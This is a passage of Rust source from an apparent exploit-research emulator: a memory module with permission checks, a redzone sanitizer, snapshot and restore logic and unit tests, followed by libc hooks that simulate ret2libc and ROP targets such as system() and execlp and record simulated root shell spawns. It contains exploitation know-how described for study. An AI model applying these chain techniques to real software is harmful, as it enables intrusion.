            v |= (self.read_u8(a, pc)? as u32) << (8 * i);
        }
        Ok(v)
    }

    /// Reads `len` bytes (region-sized chunks, not byte-at-a-time).
    ///
    /// Prefer [`read_into`](Memory::read_into) or
    /// [`read_slice`](Memory::read_slice) on hot paths — this variant
    /// allocates the returned `Vec`.
    ///
    /// # Errors
    ///
    /// Returns a read fault at the first inaccessible byte.
    pub fn read_bytes(&self, addr: Addr, len: usize, pc: Addr) -> Result<Vec<u8>, Fault> {
        let mut out = vec![0u8; len];
        self.read_into(addr, &mut out, pc)?;
        Ok(out)
    }

    /// Allocation-free bulk read: fills `buf` from `addr`, honouring
    /// permissions and crossing region boundaries like
    /// [`read_bytes`](Memory::read_bytes).
    ///
    /// # Errors
    ///
    /// Returns a read fault at the first inaccessible byte.
    pub fn read_into(&self, addr: Addr, buf: &mut [u8], pc: Addr) -> Result<(), Fault> {
        if self.redzone.is_some() {
            // Byte-at-a-time so every poisoned byte is diverted and
            // recorded individually, mirroring `write_bytes`.
            for (i, slot) in buf.iter_mut().enumerate() {
                *slot = self.read_u8(addr.wrapping_add(i as u32), pc)?;
            }
            return Ok(());
        }
        let mut done = 0usize;
        while done < buf.len() {
            let a = addr.wrapping_add(done as u32);
            let r = self
                .region_containing(a)
                .ok_or(Fault::UnmappedRead { addr: a, pc })?;
            if !r.perms.readable() {
                return Err(Fault::ProtectedRead {
                    addr: a,
                    perms: r.perms,
                    pc,
                });
            }
            let off = (a - r.base) as usize;
            let n = (r.data.len() - off).min(buf.len() - done);
            buf[done..done + n].copy_from_slice(&r.data[off..off + n]);
            done += n;
        }
        Ok(())
    }

    /// Borrowing read fast path: a permission-checked view of `len`
    /// bytes at `addr` with **zero** copies, valid only when the whole
    /// range lies inside one region (the common case for packet buffers
    /// and stack frames).
    ///
    /// # Errors
    ///
    /// Returns [`Fault::UnmappedRead`] when nothing is mapped at `addr`
    /// *or* when the range spills past the containing region (callers
    /// needing cross-region reads use [`read_into`](Memory::read_into)),
    /// and [`Fault::ProtectedRead`] on a permission violation.
    pub fn read_slice(&self, addr: Addr, len: usize, pc: Addr) -> Result<&[u8], Fault> {
        let r = self
            .region_containing(addr)
            .ok_or(Fault::UnmappedRead { addr, pc })?;
        if !r.perms.readable() {
            return Err(Fault::ProtectedRead {
                addr,
                perms: r.perms,
                pc,
            });
        }
        let off = (addr - r.base) as usize;
        if r.data.len() - off < len {
            return Err(Fault::UnmappedRead {
                addr: addr.wrapping_add((r.data.len() - off) as u32),
                pc,
            });
        }
        Ok(&r.data[off..off + len])
    }

    /// Reads a NUL-terminated C string of at most `max` bytes.
    ///
    /// # Errors
    ///
    /// Returns a read fault if the string runs into inaccessible memory
    /// before a NUL (or before `max` bytes, in which case the truncated
    /// prefix is returned).
    pub fn read_cstr(&self, addr: Addr, max: usize, pc: Addr) -> Result<Vec<u8>, Fault> {
        let mut out = Vec::new();
        for i in 0..max {
            let b = self.read_u8(addr.wrapping_add(i as u32), pc)?;
            if b == 0 {
                break;
            }
            out.push(b);
        }
        Ok(out)
    }

    /// Writes one byte, honouring permissions.
    ///
    /// # Errors
    ///
    /// Returns [`Fault::UnmappedWrite`] or [`Fault::ProtectedWrite`].
    pub fn write_u8(&mut self, addr: Addr, v: u8, pc: Addr) -> Result<(), Fault> {
        if self.redzone_absorbs(addr, pc, RedzoneAccess::Store) {
            return Ok(());
        }
        self.dcache.note_write(addr);
        let r = self
            .region_mut(addr)
            .ok_or(Fault::UnmappedWrite { addr, pc })?;
        if !r.perms.writable() {
            return Err(Fault::ProtectedWrite {
                addr,
                perms: r.perms,
                pc,
            });
        }
        r.mark_dirty(addr);
        r.data[(addr - r.base) as usize] = v;
        Ok(())
    }

    /// Writes a little-endian 32-bit word.
    ///
    /// # Errors
    ///
    /// Returns a write fault if any of the four bytes is inaccessible.
    pub fn write_u32(&mut self, addr: Addr, v: u32, pc: Addr) -> Result<(), Fault> {
        for (i, b) in v.to_le_bytes().iter().enumerate() {
            self.write_u8(addr.wrapping_add(i as u32), *b, pc)?;
        }
        Ok(())
    }

    /// Writes a byte slice (region-sized chunks, not byte-at-a-time).
    ///
    /// # Errors
    ///
    /// Returns a write fault at the first inaccessible byte; bytes before
    /// it will already have been written (matching real partial stores).
    pub fn write_bytes(&mut self, addr: Addr, bytes: &[u8], pc: Addr) -> Result<(), Fault> {
        if bytes.is_empty() {
            return Ok(());
        }
        if self.redzone.is_some() {
            // Byte-at-a-time so the in-bounds prefix commits and every
            // poisoned byte is recorded individually.
            for (i, b) in bytes.iter().enumerate() {
                self.write_u8(addr.wrapping_add(i as u32), *b, pc)?;
            }
            return Ok(());
        }
        self.dcache.note_write_range(addr, bytes.len());
        let mut done = 0usize;
        while done < bytes.len() {
            let a = addr.wrapping_add(done as u32);
            let r = self
                .region_mut(a)
                .ok_or(Fault::UnmappedWrite { addr: a, pc })?;
            if !r.perms.writable() {
                return Err(Fault::ProtectedWrite {
                    addr: a,
                    perms: r.perms,
                    pc,
                });
            }
            let off = (a - r.base) as usize;
            let n = (r.data.len() - off).min(bytes.len() - done);
            r.mark_dirty_range(a, n);
            r.data[off..off + n].copy_from_slice(&bytes[done..done + n]);
            done += n;
        }
        Ok(())
    }

    /// Privileged write that ignores the W bit (loader/debugger only;
    /// still faults on unmapped addresses).
    ///
    /// # Errors
    ///
    /// Returns [`Fault::UnmappedWrite`] if the range is not fully mapped.
    pub fn poke(&mut self, addr: Addr, bytes: &[u8]) -> Result<(), Fault> {
        if bytes.is_empty() {
            return Ok(());
        }
        self.dcache.note_write_range(addr, bytes.len());
        let mut done = 0usize;
        while done < bytes.len() {
            let a = addr.wrapping_add(done as u32);
            let r = self
                .region_mut(a)
                .ok_or(Fault::UnmappedWrite { addr: a, pc: 0 })?;
            let off = (a - r.base) as usize;
            let n = (r.data.len() - off).min(bytes.len() - done);
            r.mark_dirty_range(a, n);
            r.data[off..off + n].copy_from_slice(&bytes[done..done + n]);
            done += n;
        }
        Ok(())
    }

    /// Fetches an instruction byte: like a read but also requires the X
    /// permission.
    ///
    /// # Errors
    ///
    /// Returns [`Fault::UnmappedFetch`] or [`Fault::NxViolation`].
    pub fn fetch_u8(&self, pc: Addr, offset: u32) -> Result<u8, Fault> {
        let addr = pc.wrapping_add(offset);
        let r = self
            .region_containing(addr)
            .ok_or(Fault::UnmappedFetch { pc })?;
        if !r.perms.executable() {
            return Err(Fault::NxViolation { pc, perms: r.perms });
        }
        Ok(r.data[(addr - r.base) as usize])
    }

    /// Fetches up to `len` instruction bytes starting at `pc`, stopping
    /// early at a region boundary (the decoder treats a short fetch like
    /// truncated code).
    ///
    /// # Errors
    ///
    /// Returns [`Fault::UnmappedFetch`] or [`Fault::NxViolation`] if even
    /// the first byte is unavailable.
    pub fn fetch_window(&self, pc: Addr, len: usize) -> Result<Vec<u8>, Fault> {
        let mut out = vec![0; len];
        let n = self.fetch_into(pc, &mut out)?;
        out.truncate(n);
        Ok(out)
    }

    /// Allocation-free [`fetch_window`](Memory::fetch_window): fills
    /// `buf` and returns how many bytes were fetchable.
    ///
    /// # Errors
    ///
    /// Returns [`Fault::UnmappedFetch`] or [`Fault::NxViolation`] if even
    /// the first byte is unavailable.
    pub fn fetch_into(&self, pc: Addr, buf: &mut [u8]) -> Result<usize, Fault> {
        let mut n = 0usize;
        while n < buf.len() {
            let a = pc.wrapping_add(n as u32);
            let r = match self.region_containing(a) {
                Some(r) if r.perms.executable() => r,
                _ => break,
            };
            let off = (a - r.base) as usize;
            let take = (r.data.len() - off).min(buf.len() - n);
            buf[n..n + take].copy_from_slice(&r.data[off..off + take]);
            n += take;
        }
        if n == 0 {
            return match self.region_containing(pc) {
                None => Err(Fault::UnmappedFetch { pc }),
                Some(r) => Err(Fault::NxViolation { pc, perms: r.perms }),
            };
        }
        Ok(n)
    }

    // ---- shadow-memory sanitizer (ASan-style redzone) ----

    /// Arms a redzone over `[buffer + capacity, zone_end)`: permissioned
    /// stores landing there are *diverted* — recorded, not committed —
    /// so an overflow neither corrupts adjacent state nor faults early,
    /// and its full extent can be measured on disarm. Permissioned loads
    /// from the zone are likewise diverted: they read the poison byte
    /// `0` and are recorded, so read-overflow mutants trip the oracle
    /// too.
    ///
    /// Only one redzone can be armed at a time; re-arming replaces any
    /// previous one. `poke`, instruction fetch, and the borrowing
    /// [`read_slice`](Memory::read_slice) fast path (host-side views,
    /// not guest loads) are unaffected.
    pub fn arm_redzone(&mut self, buffer: Addr, capacity: u32, zone_end: u64) {
        let zone_start = buffer.wrapping_add(capacity);
        self.redzone = Some(Box::new(Redzone {
            buffer,
            capacity,
            zone_start,
            zone_end,
            first: Cell::new(None),
            last: Cell::new(0),
            pc: Cell::new(0),
            access: Cell::new(RedzoneAccess::Store),
        }));
    }

    /// Disarms the redzone. Returns the absorbed-overflow diagnostic if
    /// any poisoned byte was written while armed; `None` on a clean run
    /// (or when nothing was armed).
    pub fn disarm_redzone(&mut self) -> Option<RedzoneHit> {
        let z = self.redzone.take()?;
        let first = z.first.get()?;
        Some(RedzoneHit {
            buffer: z.buffer,
            capacity: z.capacity,
            first,
            last: z.last.get(),
            pc: z.pc.get(),
            access: z.access.get(),
        })
    }

    /// Whether a redzone is currently armed.
    pub fn redzone_armed(&self) -> bool {
        self.redzone.is_some()
    }

    /// Records `addr` if it falls in the poisoned range; returns `true`
    /// when the access must be diverted. `&self` because loads arrive
    /// through shared accessors — the recording fields are `Cell`s.
    fn redzone_absorbs(&self, addr: Addr, pc: Addr, access: RedzoneAccess) -> bool {
        let Some(z) = self.redzone.as_deref() else {
            return false;
        };
        if (addr as u64) < (z.zone_start as u64) || (addr as u64) >= z.zone_end {
            return false;
        }
        match z.first.get() {
            None => {
                z.first.set(Some(addr));
                z.pc.set(pc);
                z.last.set(addr);
                z.access.set(access);
            }
            Some(f) => {
                z.first.set(Some(f.min(addr)));
                z.last.set(z.last.get().max(addr));
            }
        }
        true
    }

    // ---- snapshot / restore (boot-once, fork-many) ----

    /// Captures the whole address space and arms dirty-page tracking, so
    /// a later [`restore`](Memory::restore) only has to copy back the
    /// pages written in between.
    ///
    /// Taking a snapshot is O(image) — it happens once per boot. The
    /// returned value is cheap to clone (pages are `Arc`-shared).
    pub fn snapshot(&mut self) -> MemorySnapshot {
        let regions = self
            .regions
            .iter_mut()
            .map(|r| {
                r.arm_dirty();
                RegionSnapshot {
                    name: r.name.clone(),
                    kind: r.kind,
                    base: r.base,
                    perms: r.perms,
                    pages: r.data.chunks(PAGE_SIZE as usize).map(Arc::from).collect(),
                }
            })
            .collect();
        MemorySnapshot { regions }
    }

    /// Rewinds the address space to `snap`: every page dirtied since the
    /// snapshot is copied back (O(dirty pages), not O(image)), regions
    /// mapped afterwards are dropped, and bases/permissions that drifted
    /// are reset. Restored code pages are pushed through the decode
    /// cache's write hooks, so stale predecoded instructions and fused
    /// blocks can never execute. Any armed redzone is disarmed.
    ///
    /// Dirty tracking is re-armed, so the same snapshot can be restored
    /// any number of times.
    pub fn restore(&mut self, snap: &MemorySnapshot) {
        if self.regions.len() != snap.regions.len() {
            // Regions mapped after the snapshot (there is no unmap, so
            // the live set is always a superset).
            self.regions
                .retain(|r| snap.regions.iter().any(|s| s.name == r.name));
            self.last_region.set(0);
            self.dcache.flush();
        }
        let mut resort = false;
        for rs in &snap.regions {
            let Some(r) = self.regions.iter_mut().find(|r| r.name == rs.name) else {
                unreachable!("snapshot region {} cannot be unmapped", rs.name);
            };
            if r.perms != rs.perms {
                r.perms = rs.perms;
                self.dcache.flush();
            }
            if r.base != rs.base {
                // A post-snapshot reslide moved the region; move it back.
                r.base = rs.base;
                resort = true;
                self.dcache.flush();
            }
            r.kind = rs.kind;
            if let Some(bits) = r.dirty.take() {
                for (word_idx, mut word) in bits.into_iter().enumerate() {
                    while word != 0 {
                        let page = word_idx * 64 + word.trailing_zeros() as usize;
                        word &= word - 1;
                        let off = page * PAGE_SIZE as usize;
                        let src = &rs.pages[page];
                        r.data[off..off + src.len()].copy_from_slice(src);
                        self.dcache
                            .note_write_range(rs.base.wrapping_add(off as u32), src.len());
                    }
                }
            } else {
                // Tracking was never armed for this region — full copy.
                for (page, src) in rs.pages.iter().enumerate() {
                    let off = page * PAGE_SIZE as usize;
                    r.data[off..off + src.len()].copy_from_slice(src);
                }
                self.dcache.flush();
            }
            r.arm_dirty();
        }
        if resort {
            self.regions.sort_by_key(|r| r.base);
            self.last_region.set(0);
        }
        self.redzone = None;
    }

    /// Moves the named sections to new bases (the loader's re-slide path
    /// for forking a snapshot under a different ASLR seed). Contents and
    /// dirty tracking travel with the region; the decode cache is
    /// flushed because every cached pc is now stale.
    ///
    /// # Panics
    ///
    /// Panics if the new bases make any two regions overlap.
    pub(crate) fn rebase_regions(&mut self, moves: &[(SectionKind, Addr)]) {
        for &(kind, base) in moves {
            if let Some(r) = self.regions.iter_mut().find(|r| r.kind == Some(kind)) {
                r.base = base;
            }
        }
        self.regions.sort_by_key(|r| r.base);
        for w in self.regions.windows(2) {
            assert!(
                w[0].end() <= w[1].base as u64,
                "rebase made {} overlap {}",
                w[0].name,
                w[1].name
            );
        }
        self.last_region.set(0);
        self.dcache.flush();
    }

    // ---- predecoded-instruction cache plumbing (used by the
    // interpreters; invalidation happens in the mutators above) ----

    pub(crate) fn dcache_get(&mut self, pc: Addr) -> Option<CachedInsn> {
        self.dcache.get(pc)
    }

    pub(crate) fn dcache_insert(&mut self, pc: Addr, insn: CachedInsn, byte_len: u32) {
        self.dcache.insert(pc, insn, byte_len);
    }

    pub(crate) fn dcache_set_enabled(&mut self, on: bool) {
        self.dcache.set_enabled(on);
    }

    pub(crate) fn dcache_enabled(&self) -> bool {
        self.dcache.enabled()
    }

    pub(crate) fn dcache_stats(&self) -> (u64, u64) {
        self.dcache.stats()
    }

    pub(crate) fn dcache_get_block(&mut self, pc: Addr) -> Option<Arc<Block>> {
        self.dcache.get_block(pc)
    }

    pub(crate) fn dcache_insert_block(&mut self, pc: Addr, block: Arc<Block>, span: u32) {
        self.dcache.insert_block(pc, block, span);
    }

    pub(crate) fn dcache_set_blocks_enabled(&mut self, on: bool) {
        self.dcache.set_blocks_enabled(on);
    }

    pub(crate) fn dcache_blocks_enabled(&self) -> bool {
        self.dcache.blocks_enabled()
    }

    pub(crate) fn dcache_generation(&self) -> u64 {
        self.dcache.generation()
    }

    pub(crate) fn dcache_flush(&mut self) {
        self.dcache.flush();
    }

    // ---- threaded-code IR block table plumbing ----

    pub(crate) fn dcache_get_ir(&mut self, pc: Addr) -> Option<Arc<IrBlock>> {
        self.dcache.get_ir(pc)
    }

    pub(crate) fn dcache_insert_ir(&mut self, pc: Addr, block: Arc<IrBlock>, span: u32) {
        self.dcache.insert_ir(pc, block, span);
    }

    pub(crate) fn dcache_set_ir_enabled(&mut self, on: bool) {
        self.dcache.set_ir_enabled(on);
    }

    pub(crate) fn dcache_ir_enabled(&self) -> bool {
        self.dcache.ir_enabled()
    }

    // ---- word-at-a-time fast paths for the IR dispatcher ----
    //
    // Each falls back to the canonical byte path on any anomaly —
    // redzone armed, region straddle, permission violation, unmapped —
    // so the observable faults and sanitizer records stay
    // byte-identical with per-instruction execution.

    /// Word load with a single region probe; exact same result as
    /// [`read_u32`](Memory::read_u32).
    #[inline]
    pub(crate) fn read_u32_ir(&self, addr: Addr, pc: Addr) -> Result<u32, Fault> {
        if self.redzone.is_none() {
            if let Some(r) = self.region_containing(addr) {
                if r.perms.readable() {
                    let off = (addr.wrapping_sub(r.base)) as usize;
                    if let Some(b) = r.data.get(off..off + 4) {
                        return Ok(u32::from_le_bytes([b[0], b[1], b[2], b[3]]));
                    }
                }
            }
        }
        self.read_u32(addr, pc)
    }

    /// Word store with a single region probe. The decode-cache write
    /// note precedes the permission check, matching the byte path's
    /// ordering (a store that faults still invalidates).
    #[inline]
    pub(crate) fn write_u32_ir(&mut self, addr: Addr, v: u32, pc: Addr) -> Result<(), Fault> {
        if self.redzone.is_none() {
            self.dcache.note_write_range(addr, 4);
            let done = match self.region_mut(addr) {
                Some(r) if r.perms.writable() => {
                    let off = (addr.wrapping_sub(r.base)) as usize;
                    if off + 4 <= r.data.len() {
                        r.mark_dirty_range(addr, 4);
                        r.data[off..off + 4].copy_from_slice(&v.to_le_bytes());
                        true
                    } else {
                        false
                    }
                }
                _ => false,
            };
            if done {
                return Ok(());
            }
        }
        self.write_u32(addr, v, pc)
    }

    /// Block-entry licence for the IR's fast stack ops: `true` when the
    /// whole `len`-byte window at `addr` sits inside one readable,
    /// writable, **non-executable** region with no redzone armed. The
    /// fast push/pop ops may then skip per-access permission checks and
    /// decode-cache write notes — a non-X region holds no cached
    /// decodes, and turning one executable flushes the caches.
    pub(crate) fn stack_precheck(&self, addr: Addr, len: u32) -> bool {
        if self.redzone.is_some() {
            return false;
        }
        match self.region_containing(addr) {
            Some(r) => {
                r.perms.readable()
                    && r.perms.writable()
                    && !r.perms.executable()
                    && (addr as u64) + len as u64 <= r.end()
            }
            None => false,
        }
    }

    /// Prechecked word store — sound only under a passing
    /// [`stack_precheck`](Memory::stack_precheck) covering `addr`.
    /// Returns `false` (nothing written) if the probe lands badly so
    /// the caller can take the canonical path instead.
    #[inline]
    pub(crate) fn stack_write_u32(&mut self, addr: Addr, v: u32) -> bool {
        match self.region_mut(addr) {
            Some(r) if r.perms.writable() && !r.perms.executable() => {
                let off = (addr.wrapping_sub(r.base)) as usize;
                if off + 4 <= r.data.len() {
                    r.mark_dirty_range(addr, 4);
                    r.data[off..off + 4].copy_from_slice(&v.to_le_bytes());
                    true
                } else {
                    false
                }
            }
            _ => false,
        }
    }

    /// Prechecked word load; `None` sends the caller to the slow path.
    #[inline]
    pub(crate) fn stack_read_u32(&self, addr: Addr) -> Option<u32> {
        let r = self.region_containing(addr)?;
        if !r.perms.readable() {
            return None;
        }
        let off = (addr.wrapping_sub(r.base)) as usize;
        let b = r.data.get(off..off + 4)?;
        Some(u32::from_le_bytes([b[0], b[1], b[2], b[3]]))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn mem() -> Memory {
        let mut m = Memory::new();
        m.map(".text", Some(SectionKind::Text), 0x1000, 0x100, Perms::RX);
        m.map("stack", Some(SectionKind::Stack), 0x8000, 0x100, Perms::RW);
        m
    }

    #[test]
    fn rw_roundtrip() {
        let mut m = mem();
        m.write_u32(0x8000, 0xdead_beef, 0).unwrap();
        assert_eq!(m.read_u32(0x8000, 0).unwrap(), 0xdead_beef);
        assert_eq!(m.read_u8(0x8000, 0).unwrap(), 0xef, "little endian");
    }

    #[test]
    fn unmapped_faults() {
        let mut m = mem();
        assert_eq!(
            m.read_u8(0x4000, 0x77),
            Err(Fault::UnmappedRead {
                addr: 0x4000,
                pc: 0x77
            })
        );
        assert_eq!(
            m.write_u8(0x4000, 1, 0x77),
            Err(Fault::UnmappedWrite {
                addr: 0x4000,
                pc: 0x77
            })
        );
    }

    #[test]
    fn write_to_text_denied() {
        let mut m = mem();
        assert!(matches!(
            m.write_u8(0x1000, 0x90, 0),
            Err(Fault::ProtectedWrite { addr: 0x1000, .. })
        ));
    }

    #[test]
    fn nx_enforced_on_fetch() {
        let m = mem();
        assert!(matches!(
            m.fetch_u8(0x8000, 0),
            Err(Fault::NxViolation { pc: 0x8000, .. })
        ));
        assert!(m.fetch_u8(0x1000, 0).is_ok());
    }

    #[test]
    fn rwx_stack_allows_fetch() {
        let mut m = Memory::new();
        m.map("stack", Some(SectionKind::Stack), 0x8000, 0x10, Perms::RWX);
        assert!(m.fetch_u8(0x8005, 0).is_ok());
    }

    #[test]
    fn mprotect_analogue() {
        let mut m = mem();
        assert!(m.set_perms(0x8000, Perms::RWX));
        assert!(m.fetch_u8(0x8000, 0).is_ok());
        assert!(!m.set_perms(0x4000, Perms::RW));
    }

    #[test]
    fn cstr_reads() {
        let mut m = mem();
        m.write_bytes(0x8010, b"/bin/sh\0junk", 0).unwrap();
        assert_eq!(m.read_cstr(0x8010, 64, 0).unwrap(), b"/bin/sh");
        // max cap truncates without fault
        assert_eq!(m.read_cstr(0x8010, 3, 0).unwrap(), b"/bi");
    }

    #[test]
    fn word_read_across_region_edge_faults() {
        let m = mem();
        assert!(matches!(
            m.read_u32(0x10FE, 0),
            Err(Fault::UnmappedRead { .. })
        ));
    }

    #[test]
    fn fetch_window_stops_at_boundary() {
        let m = mem();
        let w = m.fetch_window(0x10FE, 8).unwrap();
        assert_eq!(w.len(), 2);
        assert!(matches!(
            m.fetch_window(0x2000, 4),
            Err(Fault::UnmappedFetch { .. })
        ));
    }

    #[test]
    #[should_panic(expected = "overlaps")]
    fn overlapping_map_panics() {
        let mut m = mem();
        m.map("bad", None, 0x10FF, 0x10, Perms::RW);
    }

    #[test]
    fn redzone_diverts_and_measures_overflow() {
        let mut m = mem();
        // Buffer of 8 bytes at 0x8000; zone to end of the region.
        m.arm_redzone(0x8000, 8, 0x8100);
        assert!(m.redzone_armed());
        // 12-byte write: 8 in bounds, 4 diverted.
        m.write_bytes(0x8000, &[0xAA; 12], 0x42).unwrap();
        assert_eq!(m.read_u8(0x8007, 0).unwrap(), 0xAA);
        assert_eq!(m.read_u8(0x8008, 0).unwrap(), 0, "poisoned byte diverted");
        let hit = m.disarm_redzone().expect("overflow recorded");
        assert_eq!(hit.first, 0x8008);
        assert_eq!(hit.last, 0x800B);
        assert_eq!(hit.pc, 0x42);
        assert_eq!(hit.extent(), 4);
        assert!(!m.redzone_armed());
    }

    #[test]
    fn redzone_diverts_and_reports_oob_loads() {
        let mut m = mem();
        m.write_u8(0x8008, 0x5A, 0).unwrap();
        m.arm_redzone(0x8000, 8, 0x8100);
        assert_eq!(m.read_u8(0x8008, 0x77).unwrap(), 0, "load reads poison");
        let hit = m.disarm_redzone().expect("load recorded");
        assert_eq!(hit.first, 0x8008);
        assert_eq!(hit.last, 0x8008);
        assert_eq!(hit.pc, 0x77);
        assert_eq!(hit.access, RedzoneAccess::Load);
        assert_eq!(hit.extent(), 1);
        // The shadowed byte itself is intact once disarmed.
        assert_eq!(m.read_u8(0x8008, 0).unwrap(), 0x5A);
    }

    #[test]
    fn redzone_bulk_read_diverts_poisoned_suffix() {
        let mut m = mem();
        m.write_bytes(0x8000, &[0x11; 16], 0).unwrap();
        m.arm_redzone(0x8000, 8, 0x8100);
        let mut buf = [0xFFu8; 12];
        m.read_into(0x8000, &mut buf, 0x99).unwrap();
        assert_eq!(&buf[..8], &[0x11; 8], "in-bounds prefix reads through");
        assert_eq!(&buf[8..], &[0; 4], "poisoned tail reads 0");
        let hit = m.disarm_redzone().unwrap();
        assert_eq!((hit.first, hit.last), (0x8008, 0x800B));
        assert_eq!(hit.access, RedzoneAccess::Load);
    }

    #[test]
    fn redzone_reports_kind_of_first_access() {
        let mut m = mem();
        m.arm_redzone(0x8000, 8, 0x8100);
        m.write_u8(0x8009, 0xAB, 0x42).unwrap();
        let _ = m.read_u8(0x8008, 0x77).unwrap();
        let hit = m.disarm_redzone().unwrap();
        assert_eq!(hit.access, RedzoneAccess::Store, "store came first");
        assert_eq!(hit.pc, 0x42);
        assert_eq!((hit.first, hit.last), (0x8008, 0x8009));
    }

    #[test]
    fn clean_run_disarms_quietly() {
        let mut m = mem();
        m.arm_redzone(0x8000, 8, 0x8100);
        m.write_bytes(0x8000, &[1; 8], 0).unwrap();
        assert!(m.disarm_redzone().is_none());
    }

    #[test]
    fn redzone_does_not_mask_unmapped_faults() {
        let mut m = mem();
        m.arm_redzone(0x8000, 8, 0x8100);
        // Past zone_end (= region end) still faults.
        assert!(matches!(
            m.write_u8(0x8100, 1, 0),
            Err(Fault::UnmappedWrite { .. })
        ));
    }

    #[test]
    fn poke_ignores_write_protection() {
        let mut m = mem();
        m.poke(0x1000, &[0xC3]).unwrap();
        assert_eq!(m.read_u8(0x1000, 0).unwrap(), 0xC3);
    }
}
