//! Native libc functions, triggered by program-counter entry.
//!
//! The loader registers each libc symbol (and its PLT stub) as a hook.
//! When the program counter lands on a hooked address — whether via a
//! legitimate `call`, a `ret` into libc (ret2libc), or a `blx r3`
//! trampoline — the function's semantics run natively and control returns
//! per the architecture's convention. This mirrors how the paper's
//! exploits treat libc: as a black box reached purely through addresses.

use cml_image::{Addr, Arch};

use crate::machine::{Event, Machine, RunOutcome};
use crate::Fault;

/// The libc functions the simulated Connman binary links against.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[non_exhaustive]
pub enum LibcFn {
    /// `memcpy(dest, src, n)` — the ROP chains' string-building tool.
    Memcpy,
    /// `system(command)` — the x86 ret2libc target.
    System,
    /// `execlp(file, arg0, ..., NULL)` — the PLT-reachable exec used by
    /// the ARM chains (accepts relative paths, hence copying only "sh").
    Execlp,
    /// `execve(path, argv, envp)`.
    Execve,
    /// `exit(code)`.
    Exit,
    /// `__stack_chk_fail()` — reached when a canary check fails.
    StackChkFail,
}

impl LibcFn {
    /// The function's symbol name.
    pub fn name(self) -> &'static str {
        match self {
            LibcFn::Memcpy => "memcpy",
            LibcFn::System => "system",
            LibcFn::Execlp => "execlp",
            LibcFn::Execve => "execve",
            LibcFn::Exit => "exit",
            LibcFn::StackChkFail => "__stack_chk_fail",
        }
    }

    /// All hookable functions.
    pub const ALL: [LibcFn; 6] = [
        LibcFn::Memcpy,
        LibcFn::System,
        LibcFn::Execlp,
        LibcFn::Execve,
        LibcFn::Exit,
        LibcFn::StackChkFail,
    ];
}

/// What a hook told the run loop to do (kept public for the debugger's
/// single-step display).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum HookOutcome {
    /// The function returned; execution continues at the return address.
    Returned,
    /// The function terminated the process.
    Terminal(RunOutcome),
}

/// Reads the calling convention's first three arguments and the return
/// address without consuming them.
fn read_args(m: &Machine, pc: Addr) -> Result<(Addr, [u32; 3]), Fault> {
    match m.arch {
        Arch::X86 => {
            // cdecl: [esp] = return address, args above it.
            let sp = m.regs.sp();
            let ret = m.mem.read_u32(sp, pc)?;
            let a0 = m.mem.read_u32(sp.wrapping_add(4), pc)?;
            let a1 = m.mem.read_u32(sp.wrapping_add(8), pc)?;
            let a2 = m.mem.read_u32(sp.wrapping_add(12), pc)?;
            Ok((ret, [a0, a1, a2]))
        }
        Arch::Armv7 => {
            let r = m.regs.arm();
            use crate::regs::ArmReg;
            Ok((
                r.get(ArmReg::LR),
                [r.get(ArmReg(0)), r.get(ArmReg(1)), r.get(ArmReg(2))],
            ))
        }
        Arch::Riscv => {
            let r = m.regs.riscv();
            use crate::regs::RiscvReg;
            Ok((
                r.get(RiscvReg::RA),
                [
                    r.get(RiscvReg::A0),
                    r.get(RiscvReg::A1),
                    r.get(RiscvReg::A2),
                ],
            ))
        }
    }
}

/// Simulates the function's return: x86 pops the return address; ARM
/// branches to `lr`, RISC-V to `ra`.
fn do_return(m: &mut Machine, ret: Addr, retval: u32) -> Result<(), Fault> {
    match m.arch {
        Arch::X86 => {
            m.regs.x86_mut().set(crate::X86Reg::Eax, retval);
            let sp = m.regs.sp();
            m.regs.set_sp(sp.wrapping_add(4));
            m.regs.set_pc(ret);
        }
        Arch::Armv7 => {
            m.regs.arm_mut().set(crate::regs::ArmReg(0), retval);
            m.regs.set_pc(ret);
        }
        Arch::Riscv => {
            m.regs.riscv_mut().set(crate::regs::RiscvReg::A0, retval);
            m.regs.set_pc(ret);
        }
    }
    Ok(())
}

/// Executes the hooked function `f` with the program counter at `pc`.
///
/// # Errors
///
/// Propagates memory faults raised while reading arguments or copying
/// data (e.g. `memcpy` into a read-only page).
pub(crate) fn invoke(m: &mut Machine, f: LibcFn, pc: Addr) -> Result<Option<RunOutcome>, Fault> {
    let (ret, args) = read_args(m, pc)?;
    m.events.push(Event::LibcCall {
        name: f.name(),
        args,
    });
    match f {
        LibcFn::Memcpy => {
            let [dest, src, n] = args;
            // Copy through the MMU: a destination without the W bit
            // faults exactly as a real memcpy would. Non-overlapping
            // copies go region-sized chunks at a time (reads bounded to
            // one region fault only at the chunk head, and chunked
            // writes fault after their written prefix — byte-for-byte
            // the same observable behaviour as a byte-wise copy).
            let (s0, s1) = (src as u64, src as u64 + n as u64);
            let (d0, d1) = (dest as u64, dest as u64 + n as u64);
            let wraps = s1 > u32::MAX as u64 + 1 || d1 > u32::MAX as u64 + 1;
            if wraps || (s0 < d1 && d0 < s1) {
                // Overlapping (or address-space-wrapping) copy keeps the
                // forward byte-wise smear of the original memcpy.
                for i in 0..n {
                    let b = m.mem.read_u8(src.wrapping_add(i), pc)?;
                    m.mem.write_u8(dest.wrapping_add(i), b, pc)?;
                }
            } else {
                // Fixed stack buffer + `read_into`: no per-chunk `Vec`
                // allocation on what is the exploits' hottest libc path.
                let mut buf = [0u8; 256];
                let mut i = 0u32;
                while i < n {
                    let a = src.wrapping_add(i);
                    let avail = m
                        .mem
                        .region_containing(a)
                        .map_or(1, |r| (r.end() - a as u64) as u32);
                    let take = avail.min(n - i).min(buf.len() as u32);
                    m.mem.read_into(a, &mut buf[..take as usize], pc)?;
                    m.mem
                        .write_bytes(dest.wrapping_add(i), &buf[..take as usize], pc)?;
                    i += take;
                }
            }
            do_return(m, ret, dest)?;
            Ok(None)
        }
        LibcFn::System => {
            let cmd = m.mem.read_cstr(args[0], 256, pc)?;
            if !cmd.is_empty() && cmd.iter().all(|b| b.is_ascii_graphic() || *b == b' ') {
                let program = format!("sh -c {}", String::from_utf8_lossy(&cmd));
                let spawn = crate::machine::ShellSpawn {
                    program,
                    argv: vec![String::from_utf8_lossy(&cmd).into_owned()],
                    via: "system",
                    uid: 0,
                };
                m.events.push(Event::ShellSpawned(spawn.clone()));
                Ok(Some(RunOutcome::ShellSpawned(spawn)))
            } else {
                // Garbage "command" (stale pointer): the spawned sh exits
                // 127 and system() returns to the chain.
                do_return(m, ret, 127 << 8)?;
